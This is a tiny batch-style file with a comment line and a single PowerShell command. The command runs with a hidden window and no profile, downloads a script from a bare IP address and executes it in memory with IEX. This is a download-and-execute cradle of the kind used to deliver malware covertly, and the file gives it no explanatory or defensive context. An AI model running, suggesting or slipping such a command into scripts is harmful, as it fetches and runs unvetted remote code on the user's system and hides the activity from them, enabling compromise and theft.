REM run 2573 v3
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
